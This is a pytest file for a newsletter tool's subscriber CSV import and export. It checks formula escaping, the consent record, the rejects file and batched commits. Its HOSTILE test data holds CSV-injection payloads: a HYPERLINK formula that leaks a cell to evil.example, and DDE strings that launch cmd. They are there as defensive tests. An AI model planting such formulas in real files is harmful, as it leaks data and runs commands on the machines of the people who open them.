"""`digestd subscribers export` safe for spreadsheets, consent kept through exports and imports,
`--skip-invalid` with its rejects file, status conflicts as rejected rows, and batched commits
(split from test_subscribers_csv.py, which keeps the import's checks and round trips)."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
import sqlalchemy as sa

from digestd.subscribers.csv_io import COLUMNS
from tests.conftest import FIXTURES
from tests.support.subscribers import Invoke, json_of, make_invoke

HEADER = ",".join(COLUMNS)
IMPORTS = FIXTURES / "import"

# Batches of 2 rows, as in test_subscribers_csv.py (the `invoke` fixture: tests/e2e/conftest.py).
pytestmark = pytest.mark.cli_env(DIGESTD_BATCH_SIZE="2")


def _counts(db_url: str) -> tuple[int, int]:
    engine = sa.create_engine(db_url)
    with engine.connect() as conn:
        subs = conn.execute(sa.text("SELECT count(*) FROM subscriber")).scalar_one()
        events = conn.execute(sa.text("SELECT count(*) FROM event")).scalar_one()
    engine.dispose()
    return subs, events


# Cells a spreadsheet would run as formulas (OWASP "CSV injection"): names and topics come
# from the public form, so an attacker chooses them; `-safety` is a legitimate exclusion.
HOSTILE = {
    "formula@example.org": ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', "-safety"),
    "dde@example.org": ("+cmd|' /C calc'!A0", '-"attention heads" retrieval'),
    "at@example.org": ("@SUM(1+1)*cmd|' /C calc'!A0", "+alignment"),
    "quoted@example.org": ("'=already quoted", "'-not an exclusion"),
    "twice@example.org": ("''+two quotes", "'plain quote"),
    "-dash@example.org": ("Normal Name", "kv cache"),
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str) -> list[list[str]]:
    import csv
    import io

    return list(csv.reader(io.StringIO(text)))


@pytest.mark.backend  # the export's reads on PostgreSQL
def test_export_is_safe_for_spreadsheets_and_round_trips(
    another_sqlite: Callable[[Path], str], invoke: Invoke, tmp_path: Path, db_url: str
) -> None:
    for email, (name, topics) in HOSTILE.items():
        # (`--` before the address: `-dash@…` is an address, not an option)
        result = invoke(
            "subscribers", "add", "--name", name, "--topics", topics, "--confirmed", "--", email
        )
        assert result.exit_code == 0, result.output
    exported = invoke("subscribers", "export")
    assert exported.exit_code == 0, exported.output
    rows = _cells(exported.stdout)
    assert rows[0] == list(COLUMNS)
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(TRIGGERS), f"a spreadsheet would run {cell!r}"
    by_email = {row[0]: row for row in rows[1:]}
    assert by_email["formula@example.org"][1] == "'" + HOSTILE["formula@example.org"][0]
    assert by_email["formula@example.org"][2] == "'-safety"
    assert by_email["'-dash@example.org"][1] == "Normal Name"  # the address is a cell too
    # a value that already starts with quotes before a trigger keeps them all
    assert by_email["quoted@example.org"][1:3] == ["''=already quoted", "''-not an exclusion"]
    assert by_email["twice@example.org"][1:3] == ["'''+two quotes", "'plain quote"]

    # --raw: the stored values as they are, for machines
    raw = _cells(invoke("subscribers", "export", "--raw").stdout)
    raw_by_email = {row[0]: row for row in raw[1:]}
    for email, (name, topics) in HOSTILE.items():
        assert raw_by_email[email][1:3] == [name, topics]

    # import <- export is lossless: a fresh database gets exactly the stored values back
    path = tmp_path / "safe.csv"
    path.write_text(exported.stdout, encoding="utf-8")
    other = tmp_path / "fresh"
    other.mkdir()
    fresh = make_invoke(another_sqlite(other / "fresh.db"))
    result = fresh("subscribers", "import", str(path))
    assert result.exit_code == 0, result.output
    people = {s["email"]: s for s in json_of(fresh("subscribers", "list", "--json"))}
    for email, (name, topics) in HOSTILE.items():
        assert (people[email]["name"], people[email]["topics"]) == (name, topics)
    assert fresh("subscribers", "export").stdout == exported.stdout
    # and the raw file imports with --raw just as losslessly
    raw_path = tmp_path / "raw.csv"
    raw_path.write_text(invoke("subscribers", "export", "--raw").stdout, encoding="utf-8")
    third = make_invoke(another_sqlite(other / "third.db"))
    assert third("subscribers", "import", str(raw_path), "--raw").exit_code == 0
    assert third("subscribers", "export").stdout == exported.stdout
    # importing the safe export over the original changes nothing
    result = invoke("subscribers", "import", str(path), "--update-existing")
    assert result.exit_code == 0, result.output
    assert f"updated 0, unchanged {len(HOSTILE)}" in result.stdout


def test_exports_keep_their_consent_and_stats_show_no_import_day_spike(invoke: Invoke) -> None:
    """Issue 22: Mailchimp's OPTIN_TIME, CONFIRM_TIME, UNSUB_TIME, CLEAN_TIME and listmonk's
    created_at are the consent record; `stats` counts an imported address as new on its own
    opt-in day, not on import day."""
    for name in (
        "mailchimp_subscribed.csv",
        "mailchimp_unsubscribed.csv",
        "mailchimp_cleaned.csv",
        "listmonk.csv",
    ):
        result = invoke("subscribers", "import", str(IMPORTS / name))
        assert result.exit_code == 0, result.output

    ada = json_of(invoke("subscribers", "show", "ada.lovelace@example.org", "--json"))
    assert (ada["email"], ada["status"], ada["stopped_by"], ada["may_mail"]) == (
        "ada.lovelace@example.org",
        "active",
        None,
        True,
    )
    assert ada["consent"] == {
        "given_at": "2023-04-11T08:12:45+00:00",
        "given_by": "import",
        "source": "import mailchimp_subscribed.csv line 2",
        "ip": "198.51.100.23",
        "confirmed_at": "2023-04-11T08:13:10+00:00",
        "ended_at": None,
        "ended_by": None,
    }
    grace = json_of(invoke("subscribers", "show", "grace.hopper@example.com", "--json"))
    assert grace["consent"]["given_at"] == "2022-01-19T14:02:33+00:00"  # no OPTIN_TIME
    left = json_of(invoke("subscribers", "show", "left@example.org", "--json"))
    assert (left["status"], left["stopped_by"], left["may_mail"]) == (
        "unsubscribed",
        "person",
        False,
    )
    assert left["consent"]["ended_at"] == "2024-10-01T12:30:00+00:00"
    assert left["consent"]["ended_by"] == "person"
    gone = json_of(invoke("subscribers", "show", "gone.mailbox@example.org", "--json"))
    assert (gone["status"], gone["stopped_by"], gone["suppressed"]) == ("bounced", "bounce", True)
    assert gone["stopped_at"] == "2024-08-19T03:12:44+00:00"
    assert gone["consent"]["ended_at"] is None  # a bounce ends no consent
    john = json_of(invoke("subscribers", "show", "john@example.org", "--json"))
    assert john["consent"]["given_at"] == "2024-01-05T10:21:33.142116+00:00"  # listmonk
    assert john["consent"]["confirmed_at"] == john["consent"]["given_at"]
    blocked = json_of(invoke("subscribers", "show", "spam-me-not@example.com", "--json"))
    assert (blocked["status"], blocked["suppressed"]) == ("unsubscribed", True)

    stats = json_of(invoke("stats", "--json", "--days", "7"))
    assert [d["new_confirmed"] for d in stats["daily"]] == [0] * 7
    assert stats["totals"]["unsubscribes"] == dict.fromkeys(stats["totals"]["unsubscribes"], 0)


def _rows_with_five_bad(path: Path) -> Path:
    lines = [HEADER]
    for i in range(200):
        lines.append(f"user{i:03d}@example.org,User {i},,,daily,8,UTC,10,html,active")
    bad = {
        17: "not-an-address,,,,daily,8,UTC,10,html,active",
        58: "hour58@example.org,,,,daily,25,UTC,10,html,active",
        99: "zone99@example.org,,,,daily,8,Mars/Base,10,html,active",
        140: 'nul140@example.org,"Bad\x01Name",,,daily,8,UTC,10,html,active',
        188: "user000@example.org,Again,,,daily,8,UTC,10,html,active",  # repeats row 1
    }
    for index, line in bad.items():
        lines[index + 1] = line
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def test_skip_invalid_imports_the_good_rows_and_writes_the_rejects(
    another_sqlite: Callable[[Path], str], invoke: Invoke, tmp_path: Path, db_url: str
) -> None:
    path = _rows_with_five_bad(tmp_path / "people.csv")
    result = invoke("subscribers", "import", str(path), "--skip-invalid")
    assert result.exit_code == 0, result.output
    assert "added 195, updated 0, unchanged 0, rejected 5" in result.stdout
    rejects = tmp_path / "people.rejects.csv"
    assert f"rejected rows written to {rejects}" in result.stdout.replace("\n", "")
    rows = _cells(rejects.read_text(encoding="utf-8"))
    assert rows[0] == [*COLUMNS, "problems"]
    assert [r[0] for r in rows[1:]] == [
        "not-an-address",
        "hour58@example.org",
        "zone99@example.org",
        "nul140@example.org",
        "user000@example.org",
    ]
    problems = [r[-1] for r in rows[1:]]
    assert problems[0].startswith("line 19: 'not-an-address' is not a valid email address")
    assert problems[1] == "line 60: hour must be between 0 and 23, got 25"
    assert problems[2].startswith("line 101: unknown time zone 'Mars/Base'")
    assert problems[3] == "line 142: name must not contain control characters (found U+0001)"
    assert problems[4] == "line 190: user000@example.org repeats line 2"
    counts = _counts(db_url)
    assert counts[0] == 195
    # Running it again changes nothing: the good rows exist already, the bad ones are bad.
    again = invoke(
        "subscribers", "import", str(path), "--skip-invalid", "--rejects", str(tmp_path / "r2.csv")
    )
    assert again.exit_code == 0, again.output
    assert "added 0, updated 0, unchanged 0, rejected 200" in again.stdout
    assert _counts(db_url) == counts
    also = invoke("subscribers", "import", str(path), "--skip-invalid", "--update-existing")
    assert also.exit_code == 0 and "added 0, updated 0, unchanged 195, rejected 5" in also.stdout
    assert _counts(db_url) == counts
    # Without the flag, the same file imports nothing (and says why, row by row).
    fresh = make_invoke(another_sqlite(tmp_path / "fresh.db"))
    refused = fresh("subscribers", "import", str(path))
    assert refused.exit_code == 1 and "5 bad rows: nothing imported" in refused.stderr


def test_a_status_conflict_in_update_existing_is_a_rejected_row(
    invoke: Invoke, tmp_path: Path
) -> None:
    assert invoke("subscribers", "import", str(IMPORTS / "listmonk.csv")).exit_code == 0
    # listmonk exports again later: the blocklisted address is still there, now "enabled".
    again = tmp_path / "listmonk-later.csv"
    text = (IMPORTS / "listmonk.csv").read_text(encoding="utf-8")
    again.write_text(text.replace(",blocklisted,", ",enabled,"), encoding="utf-8")
    refused = invoke("subscribers", "import", str(again), "--update-existing")
    assert refused.exit_code == 1 and "nothing imported" in refused.stderr
    result = invoke("subscribers", "import", str(again), "--update-existing", "--skip-invalid")
    assert result.exit_code == 0, result.output
    assert "rejected 1" in result.stdout
    assert "line 5: spam-me-not@example.com is unsubscribed" in result.stderr


def test_an_import_commits_in_batches_so_others_can_write_meanwhile(
    sqlite_url: str, tmp_path: Path
) -> None:
    """Issue 23: a 100 MB import held SQLite's write lock for 68 s (the daemon answered 503).
    Between two batches no transaction is open: another writer (a web sign-up) gets in at
    once instead of waiting for the whole file (it would wait out the 30 s busy timeout and
    fail with "database is locked")."""
    from digestd.core.config import Settings
    from digestd.core.context import AppContext
    from digestd.core.statuses import ConsentVia
    from digestd.subscribers import importing, signup
    from digestd.subscribers.preferences import Preferences

    ctx = AppContext(settings=Settings(database_url=sqlite_url), actor="test")
    ctx.migrate()
    path = tmp_path / "many.csv"
    path.write_text(
        "\n".join([HEADER] + [f"r{i}@example.org,,,,daily,8,UTC,10,html,active" for i in range(30)])
        + "\n",
        encoding="utf-8",
    )
    meanwhile: list[object] = []

    def sign_up_between_batches(rows: int) -> None:
        mail = signup.request_subscription(
            ctx, f"web{rows}@example.org", Preferences(), via=ConsentVia.WEB, actor="web"
        )
        meanwhile.append(mail)

    report = importing.import_file(
        ctx, path, importing.ImportOptions(batch_size=10), on_batch=sign_up_between_batches
    )
    assert report.added == 30 and len(meanwhile) == 3 and all(meanwhile)
    assert _counts(sqlite_url)[0] == 33
    ctx.dispose()
